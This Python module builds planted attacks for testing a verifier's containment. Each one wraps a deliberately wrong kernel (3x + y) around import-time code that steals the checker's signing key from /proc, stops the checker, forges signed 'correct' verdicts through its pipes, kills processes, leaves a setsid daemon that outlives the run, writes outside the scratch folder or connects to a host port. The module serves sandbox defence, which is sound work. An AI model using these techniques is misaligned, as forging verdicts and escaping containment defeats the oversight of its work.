"""Planted attacks on the verifier's containment (issue 33), built per run: each candidate computes 3x + y
where the accepted version (faults/base.py) computes 2x + y, and first tries one way out of its check.

The attacks need what a real attacker finds by looking around (the server's and the checker's process
ids, paths outside its scratch folder): ``attack_text`` bakes them in. Each candidate prints what it
managed as one ``MTMC-ATTACK {json}`` line to its stdout (the worker's log), and a daemon started by
``setsid_daemon`` carries ``targets["marker"]`` as its process name, so the host can look for it after.
Used by tests/test_verify_containment.py and benchmarks/verify_gpu.py.
"""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
import uuid
from pathlib import Path

BASE = Path(__file__).resolve().parent / "faults" / "base.py"

# What every attack shares: its targets, its report, the processes it can see.
_PRELUDE = r'''
import json as _json, os as _os, signal as _signal, sys as _sys, threading as _threading, hmac as _hmac, hashlib as _hashlib

_T = _json.loads(r"""__TARGETS__""")
_R = {"attack": "__NAME__", "marker": _T["marker"], "uid": _os.getuid(), "pid": _os.getpid(),
      "parent": _os.getppid()}


def _visible_pids():
    try:
        return [int(p) for p in _os.listdir("/proc") if p.isdigit() and int(p) != _os.getpid()]
    except OSError:
        return []


def _report():
    print("MTMC-ATTACK " + _json.dumps(_R, default=str), flush=True)
'''

ATTACKS = {
    # Attack 3 of issue 33: the checker's signing key from /proc (environ, cmdline, fd, mem), the checker
    # stopped, its pipes opened through /proc, and every judge request answered with a signed "correct".
    # Every process it can see is read; only the baked-in checker is acted on (see stop_checker).
    "forge_verdict_from_proc": r'''
_keys, _readable = [], {}  # what of the checker's it could read (its report stays short: a log keeps a tail)
_R["visible"] = len(_visible_pids())
for _pid in sorted(set(_visible_pids() + _T["checker_pids"])):
    for _what in ("environ", "cmdline"):
        try:
            with open(f"/proc/{_pid}/{_what}", "rb") as _f:
                _text = _f.read()
        except OSError:
            continue
        if _pid in _T["checker_pids"]:
            _readable.setdefault(_what, []).append(_pid)
        for _part in _text.split(b"\0"):
            if b"MTMC_VERIFY_KEY=" in _part:
                _keys.append((_pid, _part.split(b"=", 1)[1].decode()))
    if _pid not in _T["checker_pids"]:
        continue
    try:
        with open(f"/proc/{_pid}/mem", "rb"):
            _readable.setdefault("mem", []).append(_pid)
    except OSError:
        pass
    try:
        _os.listdir(f"/proc/{_pid}/fd")
        _readable.setdefault("fd", []).append(_pid)
    except OSError:
        pass
_R["keys_found"] = [pid for pid, _ in _keys]
_R["proc_readable"] = _readable


def _answer(key, reader, own, writers):
    """Read the pool's judge requests off the checker's pipe and answer each one "correct", signed. The same
    is done on the checker's other pipe (which one is which is not known): a verdict read there is put back."""
    buffered = b""
    while True:
        chunk = _os.read(reader, 1 << 20)
        if not chunk:
            return
        buffered += chunk
        while b"\n" in buffered:
            line, buffered = buffered.split(b"\n", 1)
            try:
                message = _json.loads(line)
            except ValueError:
                continue
            if "mac" in message:  # the pool's end: give it back and stop reading here
                _os.write(own, line + b"\n" + buffered)
                return
            if "rid" not in message:
                continue
            trial = {"ok": True, "checks": {"reference": {"ok": True, "max_abs": 0.0, "max_rel": 0.0, "mismatch": None}}}
            body = _json.dumps({"event": "verdict", "rid": message["rid"], "trial": trial, "findings": {}})
            mac = _hmac.new(key, body.encode(), _hashlib.sha256).hexdigest()
            for fd in writers:
                if fd != own:
                    _os.write(fd, (_json.dumps({"mac": mac, "body": body}) + "\n").encode())
            _R["forged"] = _R.get("forged", 0) + 1


for _pid, _key in _keys:
    if _pid not in _T["checker_pids"]:  # another pool's checker on a shared machine: left alone
        continue
    try:
        _os.kill(_pid, _signal.SIGSTOP)
        _R["stopped_checker"] = _pid
        _pipes = [f"/proc/{_pid}/fd/{fd}" for fd in _os.listdir(f"/proc/{_pid}/fd")
                  if _os.readlink(f"/proc/{_pid}/fd/{fd}").startswith("pipe:")]
        _readers = [_os.open(p, _os.O_RDONLY | _os.O_NONBLOCK) for p in _pipes]
        _writers = [_os.open(p, _os.O_WRONLY | _os.O_NONBLOCK) for p in _pipes]
    except OSError as _exc:
        _R["forge_error"] = str(_exc)
        continue
    for _reader, _own in zip(_readers, _writers):
        _os.set_blocking(_reader, True)
        _os.set_blocking(_own, True)
        _threading.Thread(target=_answer, args=(bytes.fromhex(_key), _reader, _own, _writers), daemon=True).start()
    _R["forging_through"] = _pipes
_report()
''',
    # Attack 4 (a): the checker stopped and killed, by the ids a look at /proc gives on a machine without the
    # sandbox. They are baked in, never looked for: run against a pool without a sandbox on a shared machine,
    # a search would reach other people's checkers (or, aimed wider, every process of the machine).
    "stop_checker": r'''
_R["signalled"] = []
for _pid in sorted(set(_T["checker_pids"]) - {_os.getpid(), _os.getppid(), 1}):
    for _sig in (_signal.SIGSTOP, _signal.SIGKILL):
        try:
            _os.kill(_pid, _sig)
            _R["signalled"].append([_pid, int(_sig)])
        except OSError as _exc:
            _R.setdefault("refused", []).append([_pid, int(_sig), _exc.errno])
_report()
''',
    # Attack 4 (b): the language server (the pool's process) stopped with SIGSTOP: its own id, and the parent's.
    "stop_server": r'''
_R["signalled"] = []
for _pid in sorted({_T["server_pid"], _os.getppid()}):
    try:
        _os.kill(_pid, _signal.SIGSTOP)
        _R["signalled"].append(_pid)
    except OSError as _exc:
        _R.setdefault("refused", []).append([_pid, _exc.errno])
_report()
''',
    # Attack 4 (c): a daemon in a new session that should outlive the verification.
    "setsid_daemon": r'''
_read, _write = _os.pipe()
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _os.close(_read)
        _os.write(_write, str(_os.getpid()).encode())
        _os.close(_write)
        _sleep = "/bin/sleep" if _os.path.exists("/bin/sleep") else "/usr/bin/sleep"
        _os.execv(_sleep, [_T["marker"], "600"])
    _os._exit(0)
_os.close(_write)
_R["daemon"] = int(_os.read(_read, 64) or 0)
_os.close(_read)
_os.wait()
_report()
''',
    # Attack 4 (d): files written outside the scratch folder (home, /tmp, the repository, ...).
    "write_outside": r'''
import tempfile as _tempfile
_R["written"], _R["refused"] = [], {}
for _path in _T["paths"]:
    try:
        with open(_path, "w") as _f:
            _f.write("escaped")
        _R["written"].append(_path)
    except OSError as _exc:
        _R["refused"][_path] = _exc.strerror
with open(_os.path.join(_tempfile.gettempdir(), "scratch-ok"), "w") as _f:  # its own scratch folder: allowed
    _R["scratch"] = _f.name
_report()
''',
    # Beyond the issue: a connection to a service of the host (here a listener on its loopback that ``aim`` opens).
    "connect_out": r'''
import socket as _socket
try:
    with _socket.create_connection(("127.0.0.1", _T["port"]), timeout=2) as _c:
        _c.sendall(b"escaped")
    _R["connected"] = True
except OSError as _exc:
    _R["connected"], _R["refused"] = False, _exc.strerror
_report()
''',
}


def attack_text(name: str, targets: dict) -> str:
    """The candidate for attack ``name``: base.py computing 3x + y, the attack run when it is imported.

    ``targets``: ``server_pid``, ``checker_pids``, ``paths`` (to write), ``marker`` (the daemon's name)."""
    base = BASE.read_text()
    wrong = base.replace("tl.store(out_ptr + offsets, 2.0 * x + y, mask=mask)",
                         "tl.store(out_ptr + offsets, 3.0 * x + y, mask=mask)")
    assert wrong != base
    baked = {k: v for k, v in targets.items() if k != "listener"}
    code = (_PRELUDE + ATTACKS[name]).replace("__TARGETS__", json.dumps(baked)).replace("__NAME__", name)
    head, sep, rest = wrong.partition("\n\n\n@triton.jit")
    return f'"""PLANTED ATTACK {name}: 3x + y, and a way out of the check."""\n' + head + "\n" + code + sep + rest


def reports(log: str) -> list[dict]:
    """The ``MTMC-ATTACK`` lines a worker's log holds (a line the log's tail cut is left out)."""
    found = []
    for line in log.splitlines():
        if line.startswith("MTMC-ATTACK "):
            try:
                found.append(json.loads(line.split(" ", 1)[1]))
            except ValueError:
                pass
    return found


# -- the host's side: what to aim at, and what got out ------------------------------------------------------

def process_state(pid: int) -> tuple[int, str] | None:
    """(parent pid, state letter) of a process, None once it is gone."""
    try:
        with open(f"/proc/{pid}/stat", "rb") as f:
            fields = f.read().rsplit(b")", 1)[1].split()
    except OSError:
        return None
    return int(fields[1]), fields[0].decode()


def process_tree(pid: int) -> list[int]:
    """``pid`` and its descendants."""
    table = {int(name): process_state(int(name)) for name in os.listdir("/proc") if name.isdigit()}
    found, stack = [], [pid]
    while stack:
        current = stack.pop()
        found.append(current)
        stack.extend(child for child, st in table.items() if st and st[0] == current)
    return found


def processes_named(marker: str) -> list[int]:
    """Processes whose command line holds ``marker``."""
    found = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                with open(f"/proc/{name}/cmdline", "rb") as f:
                    if marker.encode() in f.read():
                        found.append(int(name))
            except OSError:
                pass
    return found


def aim(checker_launcher_pid: int, write_dirs: list[Path]) -> dict:
    """The targets a candidate would find on a machine without the sandbox: this process (the server), the
    checker's processes, paths outside its scratch folder (``escape-<marker>`` in each of ``write_dirs``), a
    listener on the loopback (``targets["listener"]``: close it after ``escapes``)."""
    marker = f"mtmc-daemon-{uuid.uuid4().hex[:12]}"
    listener = socket.create_server(("127.0.0.1", 0))
    listener.setblocking(False)
    return {"server_pid": os.getpid(), "checker_pids": process_tree(checker_launcher_pid),
            "paths": [str(Path(d) / f"escape-{marker}") for d in write_dirs], "marker": marker,
            "port": listener.getsockname()[1], "listener": listener}


class StopWatch:
    """A small process that watches the server's and the checker's processes: one stopped (SIGSTOP) is noted
    and resumed, so a successful attack is seen instead of hanging the run."""

    CODE = ("import os, sys, time\n"
            "pids, out = [int(p) for p in sys.argv[2:]], sys.argv[1]\n"
            "while True:\n"
            "    for pid in pids:\n"
            "        try: state = open(f'/proc/{pid}/stat', 'rb').read().rsplit(b')', 1)[1].split()[0]\n"
            "        except OSError: continue\n"
            "        if state == b'T':\n"
            "            open(out, 'a').write(f'{pid}\\n'); os.kill(pid, 18)\n"
            "    time.sleep(0.02)\n")

    def __init__(self, pids: list[int], out: Path):
        self.out = Path(out)
        self.proc = subprocess.Popen([sys.executable, "-I", "-S", "-c", self.CODE, str(out), *map(str, pids)])

    def stopped(self) -> list[int]:
        return sorted({int(line) for line in self.out.read_text().split()}) if self.out.exists() else []

    def close(self) -> None:
        self.proc.kill()
        self.proc.wait()


def escapes(name: str, said: dict | None, targets: dict, stopped: list[int]) -> list[str]:
    """What attack ``name`` got out of its check, seen from the host ([] when it was contained). Cleans up
    after it: a daemon it left is killed, a file it wrote removed, a process it stopped resumed."""
    out = []
    if said is None:
        out.append("the attack never reported (did it run?)")
        said = {}
    checkers = set(targets["checker_pids"])
    if stopped:
        out.append(f"stopped (SIGSTOP) the process(es) {stopped}")
    for pid in stopped:
        try:
            os.kill(pid, signal.SIGCONT)
        except OSError:
            pass
    if name == "forge_verdict_from_proc":
        if said.get("keys_found"):
            out.append(f"read the checker's key in /proc of {said['keys_found']}")
        if said.get("forged"):
            out.append(f"wrote {said['forged']} signed verdict(s) into the checker's pipes")
        seen = {pid for pids in (said.get("proc_readable") or {}).values() for pid in pids} & checkers
        if seen:
            out.append(f"saw the checker's processes {sorted(seen)} in /proc")
    if name == "stop_checker":
        hit = {pid for pid, _ in said.get("signalled", [])} & checkers
        gone = [pid for pid in checkers if process_state(pid) is None]
        if hit:
            out.append(f"signalled the checker's processes {sorted(hit)}")
        if gone:
            out.append(f"the checker's processes {gone} are gone")
    if name == "stop_server" and targets["server_pid"] in said.get("signalled", []):
        out.append("signalled the server")
    if name == "setsid_daemon":
        alive = processes_named(targets["marker"])
        if alive:
            out.append(f"its daemon outlived the verification: {alive}")
        for pid in alive:
            os.kill(pid, signal.SIGKILL)
    if name == "write_outside":
        for path in targets["paths"]:
            if os.path.exists(path):
                out.append(f"wrote {path}")
                os.unlink(path)
    listener = targets.get("listener")
    if listener is not None:
        try:
            listener.accept()[0].close()
            out.append(f"connected to the host's port {targets['port']}")
        except BlockingIOError:
            pass
        listener.close()
    return out
